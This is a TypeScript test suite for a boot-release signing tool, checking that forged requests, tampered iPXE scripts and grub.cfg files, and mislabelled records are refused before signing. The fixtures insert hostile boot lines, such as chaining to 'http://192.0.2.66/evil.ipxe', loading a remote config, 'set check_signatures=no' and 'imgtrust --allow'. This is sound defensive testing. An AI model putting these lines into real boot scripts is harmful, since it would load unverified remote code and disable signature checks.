import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { describe, it } from 'node:test';
import { Malformed } from '../../../src/errors/malformed.ts';
import type { RefusalCode } from '../../../src/errors/refusal.ts';
import { Refusal } from '../../../src/errors/refusal.ts';
import type { SigningRequest } from '../../../src/formats/records/signing-request.ts';
import { signRequest } from '../../../src/operations/request.ts';
import { openRequest } from '../../../src/signing/requests/open-request.ts';
import { encodeRequest } from '../../../src/signing/requests/request.ts';
import { textName } from '../../../src/signing/requests/request-files.ts';
import { payloadSeals } from '../../../src/signing/seal-keys.ts';
import { NOW } from '../../fixtures/keys.ts';
import { INITRD, KERNEL } from '../../fixtures/release.ts';
import { answer, Bundle, makeRequest, wholeTree } from '../../fixtures/signing-request.ts';
import { refused } from '../../trust/judge.ts';
import { bare, copyOf, demandRefused, fresh, keys, other, request } from './attach-site.ts';

/** Whoever signs reads: what a request may not have signed, refused where the keys are and where it is attached. */

const plain = await Bundle.read(request);
const both = await Bundle.read(await makeRequest(bare, keys, fresh('both'), { alsoAnchors: [other] }));
const id = both.index.certificates.at(-1)?.key.slice('boot-'.length) ?? '';
const next = await Bundle.read(
  await makeRequest(await wholeTree(fresh('next'), 'two', '2026.12.01'), keys, fresh('next-request')),
);
const copy = ({ files }: Bundle) => new Bundle(files);

/** Refused before any key is looked for, and by attach; nothing is written by either. */
async function demandUnsigned(bundle: Bundle, code: RefusalCode, fact: RegExp): Promise<void> {
  const [path, out] = [await bundle.write(fresh('hostile')), fresh('out')];
  // Had it come as far as the keys, it would be told that there are none.
  await assert.rejects(
    signRequest({ request: path, keys: [fresh('none')], out, now: NOW }),
    refused(code, fact),
  );
  assert.ok(!existsSync(out));
  await demandRefused(await copyOf(), [path], code, fact);
}

const line = (text: string, before: RegExp, added: string) => {
  const changed = text.replace(before, (found) => `${added}\n${found}`);
  assert.notEqual(changed, text);
  return changed;
};
const forged = (path: string, change: (text: string) => string) => () => {
  const bundle = copy(plain);
  const text = change(bundle.text(path));
  assert.notEqual(text, bundle.text(path));
  return bundle.forge(path, text);
};

const cases: Readonly<Record<string, readonly (readonly [string, () => Bundle, RefusalCode, RegExp])[]>> = {
  'a request that grew on the way': [
    [
      'by a record',
      () => copy(plain).set('records/evil.conf', 'x'),
      'malformed',
      /holds records\/evil\.conf, which its index does not name/,
    ],
    [
      'by a script',
      () => copy(plain).set(`scripts/boot.${'0'.repeat(16)}.ipxe`, plain.file('scripts/boot.ipxe')),
      'malformed',
      /its index does not name/,
    ],
    [
      'by a digest',
      () => copy(plain).set('digests/0099.codesign', Buffer.alloc(32, 7)),
      'malformed',
      /holds digests\/0099\.codesign, which its index does not name/,
    ],
    [
      'by a script under the name of a record',
      () => copy(plain).set('records/boot.ipxe', plain.file('scripts/boot.ipxe')),
      'malformed',
      /records\/boot\.ipxe, which its index does not name/,
    ],
    ...['release.manifest', 'boot.ipxe', 'grub.cfg'].map(
      (path) =>
        [
          `by a byte in ${path}, after its index was made`,
          () => copy(plain).set(textName(path), `${plain.text(path)}\n`),
          'malformed',
          new RegExp(`${path.replace('.', '\\.')} in \\S+ is not what its index names`),
        ] as const,
    ),
    [
      'by years, with all that names it',
      () =>
        copy(plain).remake((text) => text.replace(/^best-before .*$/m, 'best-before 2036-06-01T00:00:00Z')),
      'malformed',
      /orders a leaf for a release that is best before a day more than a year after its issue/,
    ],
    [
      'by a payload in the manifest, with all that names it',
      () =>
        copy(plain).remake((text) =>
          text.replace(
            /^file initrd (.*) (\S+)$/m,
            (whole, rest) => `${whole}\nfile initrd ${rest} arch/boot/evil`,
          ),
        ),
      'unsafe-script',
      /grub\.cfg to be signed, and it is not what this Bootseal makes of its manifest/,
    ],
  ],
  'a script': [
    [
      'for another release',
      () => copy(plain).forge('boot.ipxe', next.text('boot.ipxe')),
      'unsafe-script',
      /boot\.ipxe/,
    ],
    [
      'of this release that names another manifest',
      forged('boot.ipxe', (text) => text.replaceAll(plain.index.manifestSha256, next.index.manifestSha256)),
      'mixed-releases',
      /boot\.ipxe to be signed, which does not boot arch\/2026\.11\.01/,
    ],
    [
      'with a shell',
      forged('boot.ipxe', (text) => line(text, /^boot\b/m, 'shell')),
      'unsafe-script',
      /boot\.ipxe to be signed, and its line \d+ is not safe/,
    ],
    [
      'that switches verification off',
      forged('boot.ipxe', (text) => line(text, /^kernel\b/m, 'imgtrust --allow')),
      'unsafe-script',
      /boot\.ipxe/,
    ],
    [
      'that chains to another',
      forged('boot.ipxe', (text) => line(text, /^boot\b/m, 'chain http://192.0.2.66/evil.ipxe')),
      'unsafe-script',
      /boot\.ipxe/,
    ],
    [
      'that is none',
      () => copy(plain).forge('boot.ipxe', plain.text('release.manifest')),
      'unsafe-script',
      /boot\.ipxe/,
    ],
    [
      'with words that the manifest has not',
      forged('boot.ipxe', (text) => text.replaceAll('cms_verify=y', 'cms_verify=n')),
      'wrong-command-line',
      /boot\.ipxe/,
    ],
    [
      'for another loader',
      () => copy(plain).forge('boot.ipxe', plain.text('grub.cfg')),
      'unsafe-script',
      /boot\.ipxe/,
    ],
  ],
  'a grub.cfg': [
    [
      'of another release',
      () => copy(plain).forge('grub.cfg', next.text('grub.cfg')),
      'mixed-releases',
      /grub\.cfg to be signed, which does not boot arch\/2026\.11\.01/,
    ],
    [
      'that names another manifest',
      forged('grub.cfg', (text) => text.replaceAll(plain.index.manifestSha256, next.index.manifestSha256)),
      'mixed-releases',
      /grub\.cfg/,
    ],
    [
      'with words that the manifest has not',
      forged('grub.cfg', (text) => text.replaceAll('cms_verify=y', 'cms_verify=n')),
      'wrong-command-line',
      /grub\.cfg/,
    ],
    ...[
      'set check_signatures=no',
      'configfile (http,192.0.2.66)/evil.cfg',
      'trust /evil.gpg',
      'load_env',
    ].map(
      (added) =>
        [
          `with "${added}", and all else as it should be`,
          forged('grub.cfg', (text) => line(text, /^if linux/m, added)),
          'unsafe-script',
          /grub\.cfg to be signed, and its line \d+ is not safe: /,
        ] as const,
    ),
    [
      'that is iPXE’s script',
      () => copy(plain).forge('grub.cfg', plain.text('boot.ipxe')),
      'unsafe-script',
      /grub\.cfg/,
    ],
  ],
  'a record with two meanings': [
    ...['grub.cfg', 'boot.ipxe', 'release.manifest.cms.sig', 'grub.cfg.sig'].map(
      (path) =>
        [
          `${path}, which the manifest lists as payload`,
          () => copy(plain).remake((text) => text.replace(INITRD, path)),
          'malformed',
          new RegExp(`${path.replaceAll('.', '\\.')} is the name of a seal or record`),
        ] as const,
    ),
    [
      'a payload that is another one’s seal',
      () => copy(plain).remake((text) => text.replace(INITRD, `${KERNEL}.sig`)),
      'malformed',
      /vmlinuz-linux\.sig is the name of a seal or record/,
    ],
    [
      'a manifest in the place of a root hash',
      () => copy(plain).forge('arch/x86_64/airootfs.sfs.roothash', plain.text('release.manifest')),
      'malformed',
      /roothash that is not of its manifest/,
    ],
    [
      'sums that are not those of the manifest',
      () =>
        copy(plain).forge('SHA256SUMS', plain.text('SHA256SUMS').replace(/^[0-9a-f]{64}/, '0'.repeat(64))),
      'malformed',
      /brings a SHA256SUMS that is not of its manifest/,
    ],
    [
      'a manifest in the place of sums',
      () => copy(plain).forge('arch/x86_64/SHA256SUMS', plain.text('release.manifest')),
      'malformed',
      /SHA256SUMS that is not of its manifest/,
    ],
    [
      'a script in the place of the manifest',
      () => copy(plain).forge('release.manifest', plain.text('boot.ipxe')),
      'malformed',
      /cannot be read/,
    ],
  ],
};

for (const [what, of] of Object.entries(cases)) {
  describe(`${what} is refused where the keys are, and where it is attached:`, () => {
    for (const [how, make, code, fact] of of) it(how, () => demandUnsigned(make(), code, fact));
  });
}

describe('a key signs in its own places and in no other', () => {
  const PAYLOAD = ['codesign', 'openpgp', 'leaf'] as const;
  const TEXTS = ['manifest', 'openpgp-manifest', 'openpgp-script', 'boot'] as const;
  const { signatures, texts } = both.index;
  const every = [...PAYLOAD, `leaf-${id}`, ...TEXTS, `boot-${id}`];
  const algorithm = (key: string) => (key.startsWith('openpgp') ? 'rsa-sha512' : 'rsa-sha256');
  const digest = (key: string) => 'ab'.repeat(key.startsWith('openpgp') ? 64 : 32);
  type Asked = { readonly path: string; readonly suffix: string; readonly key: string };
  const places: readonly Asked[] = [...signatures.filter(({ path }) => path === KERNEL), ...texts];
  // Manifest twice, root hash, grub.cfg, two scripts for iPXE, and the sums of four folders.
  assert.equal(places.length, Object.keys(payloadSeals([id])).length + 6 + 4);

  /** Asked as payload is, by a digest, or as text. */
  const askedAs = (way: 'sign' | 'text', place: Asked, key: string) => {
    const rest = <T extends Asked>(lines: readonly T[]) =>
      lines.filter(({ path, suffix }) => path + suffix !== place.path + place.suffix);
    const { path, suffix } = place;
    return copy(both).reindex(
      (index): Partial<SigningRequest> => ({
        signatures: [
          ...rest(index.signatures),
          ...(way === 'sign'
            ? [
                {
                  number: 0,
                  path,
                  suffix,
                  key,
                  algorithm: algorithm(key),
                  digest: digest(key),
                  size: 1,
                } as const,
              ]
            : []),
        ],
        texts: [
          ...rest(index.texts),
          ...(way === 'text' ? [{ path, suffix, key, algorithm: algorithm(key) } as const] : []),
        ],
      }),
    );
  };

  /** Why such a line is refused: that there is none in the grammar, or by name. */
  const outcome = (way: 'sign' | 'text', place: Asked, key: string): string => {
    try {
      openRequest('r', askedAs(way, place, key).bytes);
    } catch (error) {
      if (error instanceof Malformed)
        return /no key for|no seal ends in/.exec(error.message)?.[0] ?? error.message;
      if (error instanceof Refusal) return error.code;
      throw error;
    }
    return 'opened';
  };

  for (const place of places) {
    it(`${place.path}${place.suffix} is ${place.key}’s`, () => {
      for (const key of every.filter((one) => one !== place.key)) {
        // A digest of anything but payload, and text for a key of payload, cannot even be asked for.
        const [sign, text] = [outcome('sign', place, key), outcome('text', place, key)];
        const isPayload = /^(codesign|openpgp|leaf.*)$/.test(key);
        const expected = isPayload ? ['wrong-purpose', 'no key for'] : ['no key for', 'wrong-purpose'];
        if (sign !== 'no seal ends in') assert.equal(sign, expected[0], `sign ${key}`);
        if (text !== 'no seal ends in') assert.equal(text, expected[1], `text ${key}`);
        assert.ok([sign, text].includes('wrong-purpose') || [sign, text].includes('no seal ends in'), key);
      }
    });
  }

  it('and opens where each is asked for its own', () => {
    for (const place of places.slice(4)) assert.equal(outcome('text', place, place.key), 'opened');
  });
});

describe('one text that serves several records', () => {
  it('travels once, and is signed by each key', async () => {
    const opened = openRequest('r', both.bytes);
    const twin = `boot.${id}.ipxe`;
    const bytes = both.file('scripts/boot.ipxe');
    const files = opened.files.map((file) =>
      file.kind === 'record' && file.path === twin ? { ...file, bytes } : file,
    );
    const { manifest, request: asked, signatories, others } = opened;
    const leaves = new Map(
      asked.leaves.map(({ key, ...order }) => [key as 'leaf', { ...order, commonName: manifest.release }]),
    );
    const draft = { manifest, manifestSha256: asked.manifestSha256, files, leaves, measured: [] };
    const made = await encodeRequest(bare, draft as never, signatories, others);
    const once = openRequest('r', made);
    const scripts = [...once.bundle.keys()].filter((name) => name.endsWith('.ipxe'));
    assert.deepEqual(scripts, ['scripts/boot.ipxe']);
    for (const path of ['boot.ipxe', twin]) {
      const { text } = once.lacking.find(({ of }) => of === path) ?? {};
      assert.deepEqual(Buffer.from(text ?? []), Buffer.from(bytes), path);
    }
    const path = await new Bundle(once.bundle).write(fresh('once'));
    const { left } = await answer(path, [keys, other], fresh('response'));
    assert.deepEqual(left, []);
  });

  it('and is not there at all is missed', () => {
    const bundle = copy(both).delete(`scripts/boot.${id}.ipxe`);
    assert.throws(
      () => openRequest('r', bundle.bytes),
      refused('absent', /holds no scripts\/boot\.[0-9a-f]+\.ipxe/),
    );
  });
});

it('nothing of these tests is refused for another reason: the requests as they are open', () => {
  for (const bundle of [plain, both, next]) assert.ok(openRequest('r', bundle.bytes).lacking.length > 0);
});
